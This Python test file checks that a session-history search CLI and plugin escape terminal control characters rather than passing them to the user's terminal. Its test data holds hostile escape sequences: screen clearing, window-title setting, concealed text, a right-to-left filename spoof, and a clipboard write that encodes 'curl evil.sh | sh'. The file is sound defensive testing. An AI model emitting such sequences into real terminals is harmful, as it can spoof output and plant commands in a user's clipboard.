"""What a person sees: the CLI run in a real pseudo-terminal, colours and all."""

from __future__ import annotations

import json
import re

from cli_runs import run_in_terminal, terminal_env
from hermes_world import World, enable_plugin, plugin_settings
from pty_terminal import plain


def test_first_run_without_a_hermes_home_shows_real_demo_searches(tmp_path):
    env = terminal_env(tmp_path / "no-such-home")
    env["XDG_CACHE_HOME"] = str(tmp_path / "cache")  # where the demo home is kept
    code, out = run_in_terminal(["quickstart"], env)
    seen = plain(out)
    assert code == 0, out[-2000:]
    assert "Traceback" not in seen
    assert "built it just now with Hermes's own SessionDB" in seen
    for title in ("Fix flaky websocket reconnect", "修改支付服务端超时"):
        assert title in seen
    assert "\x1b[1;33m" in out  # the matched words are highlighted in a terminal
    assert "@session:default/" in seen


def test_search_in_a_terminal_highlights_and_links(home, work):
    w = World(home)
    app = work / "app"
    app.mkdir()
    w.project("App", app)
    sid = w.session(("user", "the websocket reconnect loop is flaky"), cwd=app, title="Fix websocket")
    w.close()
    code, out = run_in_terminal(["search", "websocket", "--dir", str(app), "--mode", "keyword"], terminal_env(home))
    seen = plain(out)
    assert code == 0, out
    assert "Fix websocket" in seen and f"@session:default/{sid}" in seen
    assert "\x1b[1;33mwebsocket\x1b[0m" in out
    code, out = run_in_terminal(["search", "zzzznothing", "--dir", str(app), "--mode", "keyword"], terminal_env(home))
    assert code == 1 and "Nothing found" in plain(out)



def test_a_dumb_terminal_gets_no_escape_sequences(home, work):
    """``TERM=dumb`` (Emacs's shell, some CI consoles) shows an escape sequence as the characters it
    is: Hermes keeps its colours off there (``hermes_cli.colors``), but the plugin coloured its cards
    and drew ``index``'s progress bar with ``\r`` and ``ESC[K``. Now neither: « » marks the words found,
    and ``index`` writes a line now and then, as into a log."""
    w = World(home)
    app = work / "app"
    app.mkdir()
    w.project("App", app)
    w.session(("user", "the websocket reconnect loop is flaky"), cwd=app, title="Fix websocket")
    w.close()
    plugin_settings(home, semantic=False)
    env = {**terminal_env(home), "TERM": "dumb"}
    code, out = run_in_terminal(["search", "websocket", "--dir", str(app), "--mode", "keyword"], env)
    assert code == 0 and "«websocket»" in out, out
    code, indexed = run_in_terminal(["index", "--all"], env)
    assert code == 0, indexed
    for shown in (out, indexed):
        assert "\x1b" not in shown and "\r" not in shown.replace("\r\n", ""), shown


# What pasted logs and fetched pages hold, each raw on a terminal doing more than showing text.
HOSTILE = ("\x1b[2J\x1b[H"  # clears the screen
           "\x1b]0;pwned\x07"  # sets the window title (and the BEL rings)
           "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes the user's clipboard
           "\x9b2J"  # a one-character C1 CSI: clears the screen too
           "\x1b[8m"  # conceals what follows
           "\u202etxt.exe"  # shows the rest right to left
           "\x00")
# Every raw character above that a terminal acts on (the newline is the only control let through).
ACTS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
OUR_COLOURS = {"\x1b[1;33m", "\x1b[0m", "\x1b[2m", "\x1b[1m"}


def _hostile_world(world, work) -> dict:
    app = work / "app"
    app.mkdir()
    world.project("Shop\x1b]0;owned\x07\u202e", app)
    old = work / "old"
    old.mkdir()
    archived = world.project("Old\x1b]52;c;ZWNobyBoaQ==\x07", old)
    world.archive(archived)
    hit = world.session(("user", f"the rollout log said {HOSTILE} and stopped"),
                        ("assistant", f"the next line was {HOSTILE} again"), cwd=app, title="rollout")
    me = world.session(cwd=app, title="asking")
    plugin_settings(world.home, semantic=False)
    enable_plugin(world.home)
    return {"app": app, "hit": hit, "me": me, "archived": archived}


def test_history_cannot_drive_the_terminal(world, work, monkeypatch, capsys):
    from hermes_cli.plugins import get_plugin_command_handler
    from project_history_recall.ui import cli

    w = _hostile_world(world, work)
    # /recall, through Hermes's command path: the person reads every sequence as text.
    monkeypatch.setenv("HERMES_SESSION_ID", w["me"])
    recalled = get_plugin_command_handler("recall")("rollout")
    assert "rollout" in recalled and "Shop" in recalled and "the next line was" in recalled, recalled
    assert not ACTS.findall(recalled), recalled
    assert "\\u001b[2J" in recalled and "\\u001b]52;c;" in recalled and "\\u009b2J" in recalled
    assert "\\u202etxt.exe" in recalled and "\\u0000" in recalled and "\\u0007" in recalled
    assert "Shop\\u001b]0;owned\\u0007\\u202e" in get_plugin_command_handler("recall")("status")
    monkeypatch.delenv("HERMES_SESSION_ID")

    # The CLI in a colour terminal: the only escape sequences are its own colours.
    code, raw = run_in_terminal(["search", "rollout", "--dir", str(w["app"]), "--mode", "keyword"],
                                terminal_env(world.home))
    assert code == 0, raw
    assert set(re.findall(r"\x1b[^a-zA-Z]*[a-zA-Z]?", raw)) <= OUR_COLOURS, raw
    assert not ACTS.findall(re.sub(r"\x1b\[[0-9;]*m|\r", "", raw)), raw
    seen = plain(raw)
    assert "\\u001b]0;pwned\\u0007" in seen and "\\u009b2J" in seen and "\\u001b[8m" in seen
    assert "\x1b[1;33mrollout\x1b[0m" in raw
    # An error message quoting a project's name is escaped the same way.
    code, raw = run_in_terminal(["search", "rollout", "--dir", str(w["app"]), "--project", w["archived"]],
                                terminal_env(world.home))
    assert code == 2 and "Old\\u001b]52;c;ZWNobyBoaQ==\\u0007" in plain(raw), raw
    assert not ACTS.findall(plain(raw).replace("\r", "")), raw

    # --json: nothing acts on the terminal, and the JSON reads back to exactly what history holds.
    assert cli.main(["--home", str(world.home), "search", "rollout", "--dir", str(w["app"]), "--json"]) == 0
    printed = capsys.readouterr().out
    assert not ACTS.findall(printed.replace("\n", ""))
    texts = [c["text"] for hit in json.loads(printed)["results"] for c in hit["context"]]
    assert f"the rollout log said {HOSTILE} and stopped" in texts and json.loads(printed)["project"]["name"] == (
        "Shop\x1b]0;owned\x07\u202e")


def test_tool_results_escape_c1_and_bidi_controls_and_keep_the_text(world, work):
    import model_tools

    w = _hostile_world(world, work)
    raw = model_tools.handle_function_call("project_history_search", {"query": "rollout", "context": 1},
                                           session_id=w["me"])
    assert not ACTS.findall(raw), raw  # JSON escapes C0 itself; C1 and bidi controls are escaped too
    response = json.loads(raw)
    assert response["results"] and response["project"]["name"] == "Shop\x1b]0;owned\x07\u202e"
    assert any(HOSTILE in c["text"] for hit in response["results"] for c in hit["context"])
